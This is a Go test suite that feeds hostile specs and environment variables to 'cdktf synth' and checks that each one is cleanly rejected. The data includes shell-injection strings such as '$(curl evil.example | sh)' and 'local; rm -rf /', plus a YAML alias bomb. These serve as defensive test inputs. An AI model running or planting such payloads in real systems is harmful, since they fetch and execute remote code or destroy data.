// Package corpus runs hostile inputs through the real `cdktf synth`: broken
// and malicious spec files and settings must each end with exit 1, a
// message naming the file and line (or the variable) and the fix, no Go
// panic trace and no cdktf.out; inputs that are valid after all must
// synthesize exactly as their plain form does.
package corpus

import (
	"bytes"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"runtime"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/platform/estate/envs"
	"github.com/platform/estate/internal/testbin"
)

const projectRoot = "../.."

// app is the estate's app, built once; the CLI runs it with --app (what
// cdktf.json's `go run` would build).
var (
	appOnce sync.Once
	appBin  string
	appErr  error
)

func app(t *testing.T) string {
	t.Helper()
	appOnce.Do(func() {
		dir, err := os.MkdirTemp("", "estate-corpus-")
		if err != nil {
			appErr = err
			return
		}
		appBin = filepath.Join(dir, "estate-app")
		cmd := exec.Command("go", "build", "-trimpath", "-o", appBin, ".")
		cmd.Dir = projectRoot
		if out, err := cmd.CombinedOutput(); err != nil {
			appErr = fmt.Errorf("go build: %v\n%s", err, out)
		}
	})
	if appErr != nil {
		t.Fatal(appErr)
	}
	return appBin
}

func cli(t *testing.T) string {
	t.Helper()
	if testing.Short() {
		t.Skip("runs the cdktf CLI once per input")
	}
	return testbin.CLI(t, projectRoot)
}

// settings are the variables every run starts from: none of the caller's.
var settings = []string{"TARGET", "STATE_BACKEND", "STATE_BUCKET", "STATE_REGION", "STATE_KEY_PREFIX", "STATE_LOCK_TABLE", "STATE_ORGANIZATION", "STATE_WORKSPACE_PREFIX", "STATE_HOSTNAME", "ENVIRONMENT_SUFFIX", "ALLOW_DESTROY", "ENVS_DIR"}

// result is what one synthesis did.
type result struct {
	out    string
	code   int
	outdir string
	// took is the wall time of the CLI, the processor time of the app
	// alone.
	took time.Duration
}

// synth runs the real `cdktf synth` (or, with direct, the app alone, for
// its own time) on the spec folder set with vars over the clean settings.
func synth(t *testing.T, set string, vars map[string]string, direct bool) result {
	t.Helper()
	return synthTo(t, filepath.Join(t.TempDir(), "cdktf.out"), set, vars, direct)
}

// slots bounds the syntheses that run at once.
var slots = make(chan struct{}, runtime.NumCPU())

// synthTo is synth into outdir (which may hold an earlier synthesis).
func synthTo(t *testing.T, outdir, set string, vars map[string]string, direct bool) result {
	t.Helper()
	env := []string{}
	for _, kv := range os.Environ() {
		k, _, _ := strings.Cut(kv, "=")
		if !slices.Contains(settings, k) {
			env = append(env, kv)
		}
	}
	if set != "" {
		env = append(env, "ENVS_DIR="+set)
	}
	for k, v := range vars {
		env = append(env, k+"="+v)
	}
	if direct {
		env = append(env, "CDKTF_OUTDIR="+outdir)
	}
	// The project's Terraform CLI configuration (make writes it), as make
	// and the Makefile's tests use.
	if rc, err := filepath.Abs(filepath.Join(projectRoot, ".terraform.d", "terraformrc")); err == nil {
		env = append(env, "TF_CLI_CONFIG_FILE="+rc)
	}
	cmd := exec.Command(app(t))
	if !direct {
		cmd = exec.Command(cli(t), "synth", "--app", app(t), "--output", outdir)
	}
	cmd.Dir, cmd.Env = projectRoot, env
	// As many syntheses at once as the machine has processors: each is
	// busy all along, so more would only slow the end-to-end tests that
	// make test runs beside them (-parallel is set for those).
	slots <- struct{}{}
	defer func() { <-slots }()
	start := time.Now()
	out, err := cmd.CombinedOutput()
	code := testbin.ExitCode(t, err)
	took := time.Since(start)
	if direct && cmd.ProcessState != nil {
		// The app's own cost: its processor time, which a busy machine
		// (CI runs the end-to-end tests beside) does not inflate.
		took = cmd.ProcessState.UserTime() + cmd.ProcessState.SystemTime()
	}
	return result{out: string(out), code: code, outdir: outdir, took: took}
}

// plain is a valid spec (envs/dev.yaml); other is the same with another
// range, for a second environment beside it.
func plain(t *testing.T) string {
	t.Helper()
	return project(t, "dev.yaml")
}

func other(t *testing.T) string {
	return strings.Replace(plain(t), "cidr: 10.10.0.0/16", "cidr: 10.90.0.0/16", 1)
}

// set writes a spec folder: dev.yaml (valid) and files, then lets setup
// add what files cannot say (directories, links).
func set(t *testing.T, files map[string]string, setup func(dir string)) string {
	t.Helper()
	dir := filepath.Join(t.TempDir(), "envs")
	if err := os.MkdirAll(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	all := map[string]string{"dev.yaml": plain(t)}
	for name, content := range files {
		all[name] = content
	}
	for name, content := range all {
		if content == "\x00remove" {
			continue
		}
		if err := os.WriteFile(filepath.Join(dir, name), []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	if setup != nil {
		setup(dir)
	}
	return dir
}

// bad is one hostile input and what its message must hold (the file and
// line, or the variable, and the field).
type bad struct {
	name  string
	files map[string]string
	setup func(dir string)
	vars  map[string]string
	want  []string
}

func replace(s, old, new string) string {
	if !strings.Contains(s, old) {
		panic("no " + old)
	}
	return strings.Replace(s, old, new, 1)
}

func hostile(t *testing.T) []bad {
	dev, qa := plain(t), other(t)
	bomb := "lol: &a [x, x, x, x, x, x, x, x, x]\n"
	prev := "a"
	for i := range 9 {
		name := fmt.Sprintf("b%d", i)
		bomb += fmt.Sprintf("l%d: &%s [*%s, *%s, *%s, *%s, *%s, *%s, *%s, *%s, *%s]\n", i, name, prev, prev, prev, prev, prev, prev, prev, prev, prev)
		prev = name
	}
	s3 := map[string]string{"STATE_BACKEND": "s3", "STATE_BUCKET": "estate-state", "STATE_REGION": "us-east-1"}
	with := func(base map[string]string, k, v string) map[string]string {
		out := map[string]string{k: v}
		for bk, bv := range base {
			if bk != k {
				out[bk] = bv
			}
		}
		return out
	}
	return []bad{
		// The YAML itself.
		{name: "alias bomb", files: map[string]string{"qa.yaml": qa + bomb + "roles: *b8\n"}, want: []string{"qa.yaml:58:8: roles: YAML aliases (*name) are not supported"}},
		{name: "merge key", files: map[string]string{"qa.yaml": "base: &base {region: us-east-2}\n<<: *base\n" + qa}, want: []string{"qa.yaml:1:1: base: unknown key"}},
		{name: "deep flow nesting", files: map[string]string{"qa.yaml": qa + "alarms: " + strings.Repeat("[", 40) + strings.Repeat("]", 40) + "\n"}, want: []string{"qa.yaml:", "nest more than 16 levels"}},
		{name: "deep block nesting", files: map[string]string{"qa.yaml": qa + func() string {
			var b strings.Builder
			for i := range 300 {
				b.WriteString(strings.Repeat(" ", i) + "k:\n")
			}
			return b.String()
		}()}, want: []string{"qa.yaml:", "k: unknown key"}},
		{name: "duplicate key", files: map[string]string{"qa.yaml": qa + "region: us-west-2\n"}, want: []string{"qa.yaml:", `mapping key "region" already defined`}},
		{name: "tab indentation", files: map[string]string{"qa.yaml": replace(qa, "  memory_mb: 1024", "\tmemory_mb: 1024")}, want: []string{"qa.yaml:", "YAML syntax error", "indent with spaces"}},
		{name: "invalid UTF-8", files: map[string]string{"qa.yaml": replace(qa, "owner: platform-team", "owner: platform-\xff\xfeteam")}, want: []string{"qa.yaml:", "is not UTF-8 text"}},
		{name: "NUL byte", files: map[string]string{"qa.yaml": replace(qa, "owner: platform-team", "owner: platform\x00team")}, want: []string{"qa.yaml:", "control character U+0000"}},
		{name: "escape sequence", files: map[string]string{"qa.yaml": replace(qa, "owner: platform-team", "owner: \x1b[31mred")}, want: []string{"qa.yaml:", "control character U+001B"}},
		{name: "10 MB file", files: map[string]string{"qa.yaml": qa + "# " + strings.Repeat("x", 10<<20) + "\n"}, want: []string{"qa.yaml: the file is", "at most 64 KiB"}},
		{name: "empty file", files: map[string]string{"qa.yaml": ""}, want: []string{"qa.yaml: the file is empty"}},
		{name: "comments only", files: map[string]string{"qa.yaml": "# nothing yet\n"}, want: []string{"qa.yaml: the file is empty"}},
		{name: "two documents", files: map[string]string{"qa.yaml": qa + "---\nregion: us-east-1\n"}, want: []string{"qa.yaml:", "2 YAML documents"}},
		{name: "top-level list", files: map[string]string{"qa.yaml": "- region: us-east-2\n"}, want: []string{"qa.yaml:1:1", "expected a mapping"}},
		{name: "YAML tag", files: map[string]string{"qa.yaml": replace(qa, "memory_mb: 1024", "memory_mb: !!str 1024")}, want: []string{"qa.yaml:", "lambda.memory_mb", "YAML tags"}},
		{name: "unknown key", files: map[string]string{"qa.yaml": qa + "regoin: us-east-2\n"}, want: []string{"qa.yaml:", "regoin: unknown key"}},
		{name: "no value", files: map[string]string{"qa.yaml": replace(qa, "region: us-east-2", "region:")}, want: []string{"qa.yaml:", "region: has no value"}},
		// Files and names.
		{name: "directory named like a spec", setup: func(dir string) { os.Mkdir(filepath.Join(dir, "qa.yaml"), 0o755) }, want: []string{"qa.yaml: is a directory"}},
		{name: "symlink to a spec", setup: func(dir string) { os.Symlink("dev.yaml", filepath.Join(dir, "qa.yaml")) }, want: []string{"qa.yaml: is a symbolic link"}},
		{name: "dangling symlink", setup: func(dir string) { os.Symlink("gone.yaml", filepath.Join(dir, "qa.yaml")) }, want: []string{"qa.yaml: is a symbolic link"}},
		{name: "same environment in another case", files: map[string]string{"Dev.yaml": qa}, want: []string{"Dev.yaml:", `environment name "Dev" is not allowed`}},
		{name: ".yml extension", files: map[string]string{"qa.yml": qa}, want: []string{"qa.yml:", "rename the file to qa.yaml"}},
		{name: "name with a hyphen", files: map[string]string{"my-env.yaml": qa}, want: []string{"my-env.yaml:", "is not allowed"}},
		{name: "name too long", files: map[string]string{"environment1.yaml": qa}, want: []string{"environment1.yaml:", "2 to 10 lowercase letters"}},
		{name: "no specs at all", files: map[string]string{"dev.yaml": "\x00remove"}, want: []string{"no environment specs found"}},
		// Values.
		{name: "exponent", files: map[string]string{"qa.yaml": replace(qa, "memory_mb: 1024", "memory_mb: 1e3")}, want: []string{"qa.yaml:", "lambda.memory_mb: expected a whole number"}},
		{name: "leading zero", files: map[string]string{"qa.yaml": replace(qa, "memory_mb: 1024", "memory_mb: 01024")}, want: []string{"qa.yaml:", "lambda.memory_mb: 01024 has a leading zero", "write 1024"}},
		{name: "hexadecimal", files: map[string]string{"qa.yaml": replace(qa, "memory_mb: 1024", "memory_mb: 0x400")}, want: []string{"qa.yaml:", "lambda.memory_mb: 0x400", "decimal"}},
		{name: "negative", files: map[string]string{"qa.yaml": replace(qa, "memory_mb: 1024", "memory_mb: -1024")}, want: []string{"qa.yaml:", "lambda.memory_mb: -1024 is not allowed"}},
		{name: "huge number", files: map[string]string{"qa.yaml": replace(qa, "memory_mb: 1024", "memory_mb: 99999999999999999999999")}, want: []string{"qa.yaml:", "lambda.memory_mb"}},
		{name: "quoted number", files: map[string]string{"qa.yaml": replace(qa, "memory_mb: 1024", `memory_mb: "1024"`)}, want: []string{"qa.yaml:", `lambda.memory_mb: expected a whole number, got the string "1024"`}},
		{name: "yes for a boolean", files: map[string]string{"qa.yaml": replace(qa, "protect_data: false", "protect_data: yes")}, want: []string{"qa.yaml:", "protect_data: expected true or false"}},
		{name: "CIDR with host bits", files: map[string]string{"qa.yaml": replace(qa, "cidr: 10.90.0.0/16", "cidr: 10.90.0.1/16")}, want: []string{"qa.yaml:", "network.cidr", "host bits"}},
		{name: "IPv6 CIDR", files: map[string]string{"qa.yaml": replace(qa, "cidr: 10.90.0.0/16", "cidr: fd00::/48")}, want: []string{"qa.yaml:", "network.cidr", "not an IPv4 CIDR"}},
		{name: "overlapping CIDR", files: map[string]string{"qa.yaml": dev}, want: []string{"qa.yaml:", "network.cidr: 10.10.0.0/16 overlaps"}},
		{name: "region that does not exist", files: map[string]string{"qa.yaml": replace(qa, "region: us-east-2", "region: mars-north-1")}, want: []string{"qa.yaml:", "region"}},
		{name: "shell in a value", files: map[string]string{"qa.yaml": replace(qa, "owner: platform-team", "owner: $(curl evil.example | sh)")}, want: []string{"qa.yaml:", "tags.owner"}},
		// Settings: every variable the project reads.
		{name: "TARGET wrong case", vars: map[string]string{"TARGET": "AWS"}, want: []string{"environment variable TARGET", "is not a target"}},
		{name: "TARGET with shell", vars: map[string]string{"TARGET": "local; rm -rf /"}, want: []string{"environment variable TARGET", "is not a target"}},
		{name: "STATE_BACKEND wrong case", vars: map[string]string{"STATE_BACKEND": "S3"}, want: []string{"environment variable STATE_BACKEND", "is not a state backend"}},
		{name: "STATE_BACKEND s3 alone", vars: map[string]string{"STATE_BACKEND": "s3"}, want: []string{"environment variable STATE_BUCKET: is required", "environment variable STATE_REGION: is required"}},
		{name: "STATE_BUCKET with shell", vars: with(s3, "STATE_BUCKET", "state$(id)"), want: []string{"environment variable STATE_BUCKET", "not a valid S3 bucket name"}},
		{name: "STATE_BUCKET too long", vars: with(s3, "STATE_BUCKET", strings.Repeat("b", 64)), want: []string{"environment variable STATE_BUCKET", "3 to 63"}},
		{name: "STATE_BUCKET without s3", vars: map[string]string{"STATE_BUCKET": "estate-state"}, want: []string{"environment variable STATE_BUCKET", "would be ignored"}},
		{name: "STATE_REGION with backticks", vars: with(s3, "STATE_REGION", "us-east-1`id`"), want: []string{"environment variable STATE_REGION", "not an AWS region name"}},
		{name: "STATE_KEY_PREFIX climbing", vars: with(s3, "STATE_KEY_PREFIX", "/estate/../other"), want: []string{"environment variable STATE_KEY_PREFIX", "not a usable key prefix"}},
		{name: "STATE_LOCK_TABLE with shell", vars: with(s3, "STATE_LOCK_TABLE", "locks;drop"), want: []string{"environment variable STATE_LOCK_TABLE", "not a valid DynamoDB table name"}},
		{name: "STATE_ORGANIZATION with shell", vars: map[string]string{"TARGET": "aws", "STATE_BACKEND": "cloud", "STATE_ORGANIZATION": "team;rm"}, want: []string{"environment variable STATE_ORGANIZATION", "not an organization name"}},
		{name: "STATE_WORKSPACE_PREFIX too long", vars: map[string]string{"TARGET": "aws", "STATE_BACKEND": "cloud", "STATE_ORGANIZATION": "team", "STATE_WORKSPACE_PREFIX": strings.Repeat("w", 61)}, want: []string{"environment variable STATE_WORKSPACE_PREFIX", "not a usable workspace prefix"}},
		{name: "STATE_HOSTNAME a URL", vars: map[string]string{"TARGET": "aws", "STATE_BACKEND": "cloud", "STATE_ORGANIZATION": "team", "STATE_HOSTNAME": "https://tfe.example.com/$(id)"}, want: []string{"environment variable STATE_HOSTNAME", "not a host name"}},
		{name: "ENVIRONMENT_SUFFIX wrong case", vars: map[string]string{"ENVIRONMENT_SUFFIX": "PR7"}, want: []string{"environment variable ENVIRONMENT_SUFFIX", `"PR7" is not allowed`}},
		{name: "ENVIRONMENT_SUFFIX too long", vars: map[string]string{"ENVIRONMENT_SUFFIX": strings.Repeat("p", 40)}, want: []string{"environment variable ENVIRONMENT_SUFFIX", "up to 32"}},
		{name: "ENVIRONMENT_SUFFIX with shell", vars: map[string]string{"ENVIRONMENT_SUFFIX": "pr7;ls"}, want: []string{"environment variable ENVIRONMENT_SUFFIX", "is not allowed"}},
		{name: "ALLOW_DESTROY unknown", vars: map[string]string{"ALLOW_DESTROY": "prod"}, want: []string{"environment variable ALLOW_DESTROY", `"prod" is not an environment`}},
		{name: "ALLOW_DESTROY with shell", vars: map[string]string{"ALLOW_DESTROY": "dev,$(id)"}, want: []string{"environment variable ALLOW_DESTROY", `"$(id)" is not an environment name`}},
		{name: "ENVS_DIR missing", vars: map[string]string{"ENVS_DIR": "/nonexistent/specs"}, want: []string{`environment variable ENVS_DIR: "/nonexistent/specs" is not a folder of environment specs; name one`}},
		{name: "ENVS_DIR a file", vars: map[string]string{"ENVS_DIR": "go.mod"}, want: []string{`environment variable ENVS_DIR: "go.mod" is not a folder of environment specs; name one`}},
	}
}

// TestHostileInputs: each input fails the real cdktf synth with exit 1, its
// message, no panic trace and no output; and the app's own part (validation
// before any jsii call) takes under two seconds.
func TestHostileInputs(t *testing.T) {
	cli(t)
	app(t)
	inputs := hostile(t)
	if len(inputs) < 40 {
		t.Fatalf("%d hostile inputs; the corpus keeps at least 40", len(inputs))
	}
	for _, in := range inputs {
		t.Run(in.name, func(t *testing.T) {
			t.Parallel()
			dir := set(t, in.files, in.setup)
			if in.vars["ENVS_DIR"] != "" {
				dir = ""
			}
			r := synth(t, dir, in.vars, false)
			if r.code != 1 {
				t.Errorf("cdktf synth exited %d, want 1:\n%s", r.code, r.out)
			}
			for _, want := range in.want {
				if !strings.Contains(r.out, want) {
					t.Errorf("the message lacks %q:\n%s", want, r.out)
				}
			}
			if strings.Contains(r.out, "goroutine ") || strings.Contains(r.out, "panic:") {
				t.Errorf("a Go panic trace reached the user:\n%s", r.out)
			}
			if _, err := os.Stat(r.outdir); !os.IsNotExist(err) {
				t.Errorf("cdktf.out was left behind (%v)", err)
			}
			own := synth(t, dir, in.vars, true)
			if own.code != 1 || own.took > 2*time.Second {
				t.Errorf("the app alone: exit %d after %s of processor time, want exit 1 in under 2 s", own.code, own.took.Round(time.Millisecond))
			}
		})
	}
}

// TestValidAfterAll: inputs that look hostile but are valid synthesize
// exactly as their plain form: a byte-order mark, Windows line endings,
// environment names that are Go or Terraform keywords, every setting set
// to the empty string.
func TestValidAfterAll(t *testing.T) {
	cli(t)
	app(t)
	qa := other(t)
	empty := map[string]string{}
	for _, k := range settings {
		if k != "ENVS_DIR" {
			empty[k] = ""
		}
	}
	for _, c := range []struct {
		name        string
		env, spec   string
		vars        map[string]string
		plainEnv    string
		plainSpec   string
		description string
	}{
		{name: "byte-order mark", env: "qa", spec: "\ufeff" + qa, plainEnv: "qa", plainSpec: qa},
		{name: "CRLF line endings", env: "qa", spec: strings.ReplaceAll(qa, "\n", "\r\n"), plainEnv: "qa", plainSpec: qa},
		{name: "Go keyword func", env: "func", spec: qa, plainEnv: "zq9", plainSpec: qa},
		{name: "Go keyword select", env: "select", spec: qa, plainEnv: "zq9", plainSpec: qa},
		{name: "Terraform keyword module", env: "module", spec: qa, plainEnv: "zq9", plainSpec: qa},
		{name: "Terraform keyword locals", env: "locals", spec: qa, plainEnv: "zq9", plainSpec: qa},
		{name: "every setting empty", env: "qa", spec: qa, vars: empty, plainEnv: "qa", plainSpec: qa},
	} {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			got := synthTree(t, set(t, map[string]string{c.env + ".yaml": c.spec}, nil), c.vars, "", "")
			want := synthTree(t, set(t, map[string]string{c.plainEnv + ".yaml": c.plainSpec}, nil), nil, c.plainEnv, c.env)
			if len(want) == 0 {
				t.Fatal("the plain form synthesized nothing")
			}
			for name, content := range want {
				if !bytes.Equal(got[name], content) {
					t.Errorf("%s differs from the plain form's: %s", name, firstDifference(content, got[name]))
				}
			}
			if len(got) != len(want) {
				t.Errorf("%d files, the plain form %d", len(got), len(want))
			}
		})
	}
}

// synthTree synthesizes the set with the real CLI and returns its stacks'
// files, with the set's name (a hash of its path) replaced, and, for a
// plain form standing in for another name, its environment's name
// (rename: plain name to the other). cdktf's logical ids end in a hash of
// the construct path, and config_hash hashes the manifest, which holds the
// name: both are masked; the names themselves are compared.
func synthTree(t *testing.T, dir string, vars map[string]string, from, to string) map[string][]byte {
	t.Helper()
	r := synth(t, dir, vars, false)
	if r.code != 0 {
		t.Fatalf("cdktf synth exited %d:\n%s", r.code, r.out)
	}
	setName := envs.SetName(dir)
	hash := regexp.MustCompile(`_[0-9A-F]{8}`)
	configHash := regexp.MustCompile(`("config_hash": \{[^}]*"value": ")[0-9a-f]{64}`)
	out := map[string][]byte{}
	filepath.WalkDir(filepath.Join(r.outdir, "stacks"), func(path string, d os.DirEntry, err error) error {
		if err != nil || d.IsDir() || filepath.Base(path) != "cdk.tf.json" {
			return err
		}
		b, err := os.ReadFile(path)
		if err != nil {
			return err
		}
		rel, _ := filepath.Rel(r.outdir, path)
		b = bytes.ReplaceAll(b, []byte(setName), []byte("SETNAME"))
		if from != to {
			// Statement ids hold the name capitalized.
			title := func(s string) string { return strings.ToUpper(s[:1]) + s[1:] }
			b = bytes.ReplaceAll(b, []byte(from), []byte(to))
			b = bytes.ReplaceAll(b, []byte(title(from)), []byte(title(to)))
			rel = strings.ReplaceAll(rel, from, to)
		}
		b = hash.ReplaceAll(b, []byte("_HASH"))
		b = configHash.ReplaceAll(b, []byte("${1}HASH"))
		out[rel] = b
		return nil
	})
	return out
}

// firstDifference shows where two texts first differ.
func firstDifference(want, got []byte) string {
	i := 0
	for i < len(want) && i < len(got) && want[i] == got[i] {
		i++
	}
	from := max(0, i-80)
	return fmt.Sprintf("at byte %d: plain form %q, this form %q", i, want[from:min(len(want), i+80)], got[from:min(len(got), i+80)])
}

// TestSynthNeedsNoTerraform: a synthesis, which is for review, runs where
// no Terraform is installed. cdktf's validations would run `terraform
// version` for the network's moved blocks (and fail without it); the app
// skips that check alone: stacks.Estate.Validate runs the others, as the
// cloud backend's shows (cdktf's own check that Terraform can use it,
// which fails here with exit 1 and a message, not a panic trace).
func TestSynthNeedsNoTerraform(t *testing.T) {
	if testing.Short() {
		t.Skip("synthesizes the estate")
	}
	node, err := exec.LookPath("node")
	if err != nil {
		t.Fatal(err)
	}
	path := t.TempDir() // PATH: node alone
	if err := os.Symlink(node, filepath.Join(path, "node")); err != nil {
		t.Fatal(err)
	}
	r := synth(t, "", map[string]string{"PATH": path}, true)
	if r.code != 0 {
		t.Fatalf("the app exited %d with no terraform on PATH:\n%s", r.code, r.out)
	}
	stacks, err := os.ReadDir(filepath.Join(r.outdir, "stacks"))
	if err != nil || len(stacks) != 4 {
		t.Errorf("want the network and three app stacks, got %d (%v)", len(stacks), err)
	}

	cloud := synth(t, "", map[string]string{"PATH": path, "TARGET": "aws", "STATE_BACKEND": "cloud", "STATE_ORGANIZATION": "acme"}, true)
	if cloud.code != 1 || !strings.Contains(cloud.out, "cdktf validation: ") || !strings.Contains(cloud.out, "[network/backend] Could not determine version of terraform") {
		t.Errorf("the cloud backend with no terraform: exit %d, want 1 and cdktf's validation message:\n%s", cloud.code, cloud.out)
	}
	if strings.Contains(cloud.out, "goroutine ") || strings.Contains(cloud.out, "skipValidation") {
		t.Errorf("a panic trace, or cdktf's advice to skip validations, reached the user:\n%s", cloud.out)
	}
	if _, err := os.Stat(cloud.outdir); !os.IsNotExist(err) {
		t.Errorf("a failed validation left %s behind (%v)", cloud.outdir, err)
	}
}

// TestMain removes the app built for the tests.
func TestMain(m *testing.M) {
	code := m.Run()
	if appBin != "" {
		os.RemoveAll(filepath.Dir(appBin))
	}
	os.Exit(code)
}
